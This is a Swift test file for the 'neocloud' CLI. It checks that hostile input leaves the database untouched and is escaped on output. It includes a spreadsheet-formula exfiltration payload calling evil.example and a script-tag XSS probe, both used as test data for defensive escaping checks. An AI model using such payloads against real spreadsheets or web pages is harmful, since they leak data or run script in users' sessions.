import Foundation
import Testing

@testable import Store

#if canImport(Glibc)
  import Glibc
#endif

/// Every kind of the database as `export` writes it, concatenated: equal before and after a
/// failed command means the command wrote nothing (DESIGN §6: nothing half-written).
func exportedText(_ box: Sandbox) throws -> String {
  let directory = box.path("export-" + UUID().uuidString)
  defer { try? FileManager.default.removeItem(atPath: directory) }
  let result = box.run(["export", directory])
  guard result.code == 0 else { throw FixtureError(message: "export failed: \(result.stderr)") }
  let names = try FileManager.default.contentsOfDirectory(atPath: directory).sorted()
  return try names.map { name in
    "== \(name)\n" + (try String(contentsOfFile: directory + "/" + name, encoding: .utf8))
  }.joined()
}

/// The sample providers file with one provider's name replaced (an upsert of one row).
func providersFile(renaming providerID: String, to name: String) throws -> String {
  let sample = try String(contentsOfFile: repositoryRoot + "/Samples/providers.csv", encoding: .utf8)
  let lines = sample.split(separator: "\n", omittingEmptySubsequences: true)
  guard let header = lines.first, let row = lines.first(where: { $0.hasPrefix(providerID + ",") }) else {
    throw FixtureError(message: "no provider \(providerID) in Samples/providers.csv")
  }
  // The sample's name is the second field, quoted when it holds a comma.
  let rest = row.dropFirst(providerID.count + 1)
  let afterName: Substring
  if rest.hasPrefix("\"") {
    guard let close = rest.dropFirst().firstIndex(of: "\"") else {
      throw FixtureError(message: "unexpected quoting in \(row)")
    }
    afterName = rest[rest.index(after: close)...]
  } else {
    guard let comma = rest.firstIndex(of: ",") else { throw FixtureError(message: "short row \(row)") }
    afterName = rest[comma...]
  }
  let quoted = "\"" + name.replacingOccurrences(of: "\"", with: "\"\"") + "\""
  return "\(header)\n\(providerID),\(quoted)\(afterName)\n"
}

/// Hostile input through the CLI (DESIGN §2, §5, §6): each gets one sentence on stderr, its exit
/// code, no crash, and leaves the database as it was.
@Suite struct HostileInputTests {
  // MARK: - Paths that are not regular files

  @Test func aSymlinkLoopAsTheFileExits66AndWritesNothing() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    try FileManager.default.createSymbolicLink(atPath: box.path("loop.csv"), withDestinationPath: box.path("loop.csv"))
    let result = box.run(["import", box.path("loop.csv")])
    #expect(result.code == 66)
    #expect(result.stdout == "")
    #expect(
      result.stderr
        == "neocloud: '\(box.path("loop.csv"))' does not exist: name a CSV file or a directory of CSV files.\n")
    #expect(try exportedText(box) == before)
  }

  @Test func aDirectoryAsRejectsExits66AndWritesNothing() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    try FileManager.default.createDirectory(atPath: box.path("rejects"), withIntermediateDirectories: false)
    try box.write("providers.csv", try providersFile(renaming: "auroragrid", to: "Renamed"))
    let result = box.run(["import", "--rejects", box.path("rejects"), box.path("providers.csv")])
    #expect(result.code == 66)
    #expect(result.stdout == "")
    #expect(result.stderr == "neocloud: cannot write '\(box.path("rejects"))': Is a directory.\n")
    #expect(try exportedText(box) == before)
  }

  @Test func aDirectoryNamedLikeACSVFileHoldsNoCSVFilesExits66() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    try FileManager.default.createDirectory(atPath: box.path("drop/fleets.csv"), withIntermediateDirectories: true)
    // Named directly, and as the only `*.csv` of a directory: neither is read as a file.
    for path in [box.path("drop/fleets.csv"), box.path("drop")] {
      let result = box.run(["import", path])
      #expect(result.code == 66)
      #expect(result.stdout == "")
      #expect(
        result.stderr == "neocloud: directory '\(path)' holds no *.csv files: name the files or another directory.\n")
    }
    #expect(try exportedText(box) == before)
  }

  @Test func aCSVDirectoryInsideADirectoryIsSkippedAndTheRealFilesImport() throws {
    let box = try Sandbox.withSamples()
    try FileManager.default.createDirectory(atPath: box.path("drop/fleets.csv"), withIntermediateDirectories: true)
    try box.write("drop/providers.csv", try providersFile(renaming: "auroragrid", to: "AuroraGrid Renamed"))
    let result = box.run(["import", box.path("drop")])
    #expect(result.code == 0)
    #expect(result.stderr == "imported 1 provider (1 updated)\n")
  }

  // Tests run as root here, and root reads a file whatever its mode: the case only means
  // something for an ordinary user, so it is skipped under root rather than asserted.
  @Test(.enabled(if: geteuid() != 0, "root can read a chmod 000 file"))
  func anUnreadableFileExits66AndWritesNothing() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    try box.write("providers.csv", try providersFile(renaming: "auroragrid", to: "Renamed"))
    #expect(chmod(box.path("providers.csv"), 0) == 0)
    let result = box.run(["import", box.path("providers.csv")])
    #expect(result.code == 66)
    #expect(result.stderr == "neocloud: cannot read '\(box.path("providers.csv"))': permission denied.\n")
    #expect(try exportedText(box) == before)
  }

  // MARK: - Huge and endless lines

  @Test func aOneGigabyteSparseFileOfNULBytesFailsAtLineOneAtOnce() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    let path = box.path("fleets.csv")
    let descriptor = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0o644)
    #expect(descriptor >= 0)
    #expect(ftruncate(descriptor, 1 << 30) == 0)
    close(descriptor)
    let started = Date()
    let result = box.run(["import", path])
    #expect(Date().timeIntervalSince(started) < 5)
    #expect(result.code == 65)
    #expect(result.stdout == "")
    #expect(
      result.stderr
        == "\(path):1: the header contains a NUL byte (is the file UTF-16?): save it as UTF-8\n"
        + "neocloud: 1 error; nothing was imported.\n")
    #expect(try exportedText(box) == before)
  }

  @Test func aHundredMegabyteLineWithoutNewlineStopsAtTheFieldLimit() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    let fifo = box.path("endless.csv")
    #expect(mkfifo(fifo, 0o644) == 0)
    // 100 MB of 'x' and no newline, made on the fly: only what the reader asks for is ever written.
    let writer = try Child(
      "/bin/sh", ["-c", #"head -c 104857600 /dev/zero | tr '\0' x > "$0""#, fifo], in: box, name: "writer")
    defer { writer.killHard() }
    let started = Date()
    let result = box.run(["import", fifo])
    #expect(Date().timeIntervalSince(started) < 5)
    #expect(result.code == 65)
    #expect(
      result.stderr
        == "\(fifo):1: field longer than 65536 bytes (64 KiB)\nneocloud: 1 error; nothing was imported.\n")
    // The reader stopped early: the writer died of SIGPIPE instead of writing all 100 MB.
    _ = try writer.wait(seconds: 10)
    #expect(writer.process.terminationReason == .uncaughtSignal || writer.process.terminationStatus != 0)
    #expect(try exportedText(box) == before)
  }

  @Test func aFileCutOffInsideAQuotedFieldIsAClearError() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    let fifo = box.path("providers.csv")
    #expect(mkfifo(fifo, 0o644) == 0)
    // The writer goes away in the middle of a quoted header field.
    let writer = try Child("/bin/sh", ["-c", #"printf 'provider_id,"name' > "$0""#, fifo], in: box, name: "writer")
    defer { writer.killHard() }
    let result = box.run(["import", fifo])
    #expect(result.code == 65)
    #expect(
      result.stderr
        == "\(fifo):1: unterminated quoted field: the quote opened here is never closed\n"
        + "neocloud: 1 error; nothing was imported.\n")
    #expect(try exportedText(box) == before)
  }

  // MARK: - Encodings

  @Test func aUTF16FileIsRejectedAtLineOne() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    let text = try providersFile(renaming: "auroragrid", to: "Renamed")
    guard let utf16 = text.data(using: .utf16LittleEndian) else { throw FixtureError(message: "no UTF-16") }
    let path = box.path("providers.csv")
    // With a byte order mark, and without one (then the first NUL gives it away).
    for bytes in [Data([0xFF, 0xFE]) + utf16, utf16] {
      try bytes.write(to: URL(fileURLWithPath: path))
      let result = box.run(["import", path])
      #expect(result.code == 65)
      let reason =
        bytes.first == 0xFF
        ? "the file is UTF-16: save it as UTF-8"
        : "the header contains a NUL byte (is the file UTF-16?): save it as UTF-8"
      #expect(result.stderr == "\(path):1: \(reason)\nneocloud: 1 error; nothing was imported.\n")
    }
    #expect(try exportedText(box) == before)
  }

  @Test func aLatin1NameIsRejectedWithItsLineAndColumn() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    let text = try providersFile(renaming: "auroragrid", to: "Caf\u{E9} Compute")
    guard let latin1 = text.data(using: .isoLatin1) else { throw FixtureError(message: "no Latin-1") }
    let path = box.path("providers.csv")
    try latin1.write(to: URL(fileURLWithPath: path))
    let result = box.run(["import", path])
    #expect(result.code == 65)
    #expect(
      result.stderr
        == "\(path):2:name: invalid UTF-8 (byte 0xE9): save the file as UTF-8\nneocloud: 1 error; nothing was imported.\n"
    )
    #expect(try exportedText(box) == before)
  }

  // MARK: - Payloads in names

  @Test func aFormulaInAProviderNameIsNeutralisedInCSVOutput() throws {
    let box = try Sandbox.withSamples()
    let payload = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
    try box.write("providers.csv", try providersFile(renaming: "auroragrid", to: payload))
    #expect(box.run(["import", box.path("providers.csv")]).code == 0)
    let result = box.run(["rank", "--format", "csv"])
    #expect(result.code == 0)
    let escaped = payload.replacingOccurrences(of: "\"", with: "\"\"")
    #expect(result.stdout.contains(",\"'\(escaped)\","))
    // No field of any line starts with a formula character.
    for line in result.stdout.split(separator: "\n") {
      #expect(!line.contains(",=") && !line.contains(",\"=") && !line.hasPrefix("="), "\(line)")
    }
  }

  @Test func aScriptTagInAProviderNameIsEscapedInHTMLAndMarkdown() throws {
    let box = try Sandbox.withSamples()
    let payload = "<script>alert(1)</script>"
    try box.write("providers.csv", try providersFile(renaming: "auroragrid", to: payload))
    #expect(box.run(["import", box.path("providers.csv")]).code == 0)

    let report = box.run(["report", "--output", box.path("report.html")])
    #expect(report.code == 0)
    let html = try String(contentsOfFile: box.path("report.html"), encoding: .utf8)
    #expect(!html.contains(payload))
    #expect(!html.contains("<script>alert"))
    #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))

    let explain = box.run(["explain", "auroragrid", "--format", "markdown"])
    #expect(explain.code == 0)
    #expect(!explain.stdout.contains(payload))
    #expect(explain.stdout.contains(#"\<script\>alert(1)\</script\>"#))
  }

  // MARK: - Hostile databases

  @Test func aLockedDatabaseExits75AndWritesNothing() throws {
    let box = try Sandbox.withSamples()
    let before = try exportedText(box)
    try box.write("providers.csv", try providersFile(renaming: "auroragrid", to: "Renamed"))
    let lock = try DatabaseLock.acquire(databasePath: box.db, now: { Date(timeIntervalSince1970: 1_795_400_000) })
    let result = box.run(["import", box.path("providers.csv")])
    lock.release()
    #expect(result.code == 75)
    #expect(
      result.stderr
        == "neocloud: database '\(box.db)' is locked by another neocloud process (pid \(getpid()) since 2026-11-23T02:13:20Z): "
        + "wait for it to finish or pass --wait SECONDS.\n")
    #expect(try exportedText(box) == before)
  }

  @Test func aNewerDatabaseExits73AndIsLeftAlone() throws {
    let box = try Sandbox.withSamples()
    let store = try Store.open(path: box.db)
    try store.queue.writeWithoutTransaction {
      try $0.execute(sql: "PRAGMA wal_checkpoint(TRUNCATE)")
      try $0.execute(sql: "PRAGMA user_version = \(Store.latestVersion + 1)")
      try $0.execute(sql: "PRAGMA wal_checkpoint(TRUNCATE)")
    }
    try store.queue.close()
    let bytes = try Data(contentsOf: URL(fileURLWithPath: box.db))
    try box.write("providers.csv", try providersFile(renaming: "auroragrid", to: "Renamed"))
    for arguments in [["import", box.path("providers.csv")], ["rank"]] {
      let result = box.run(arguments)
      #expect(result.code == 73)
      #expect(
        result.stderr
          == "neocloud: database '\(box.db)' has schema version \(Store.latestVersion + 1), newer than this neocloud supports (\(Store.latestVersion)): upgrade neocloud.\n"
      )
    }
    #expect(try Data(contentsOf: URL(fileURLWithPath: box.db)) == bytes)
    #expect(!FileManager.default.fileExists(atPath: box.db + ".bak-\(Store.latestVersion + 1)"))
  }

  @Test func aFileThatIsNotSQLiteAsDBExits65AndIsLeftAlone() throws {
    let box = try Sandbox()
    let text = String(repeating: "provider_id,name\n", count: 400)
    try box.write("test.sqlite", text)
    try box.write("providers.csv", "provider_id,name\n")
    for arguments in [["import", box.path("providers.csv")], ["rank"], ["init"]] {
      let result = box.run(arguments)
      #expect(result.code == 65, "\(arguments)")
      #expect(result.stderr.hasPrefix("neocloud: '\(box.db)' is not a neocloud database ("), "\(arguments)")
      #expect(result.stderr.hasSuffix("): point --db at a database made by `neocloud init`.\n"), "\(arguments)")
      #expect(result.stderr.split(separator: "\n").count == 1)
    }
    #expect(try String(contentsOfFile: box.db, encoding: .utf8) == text)
  }
}
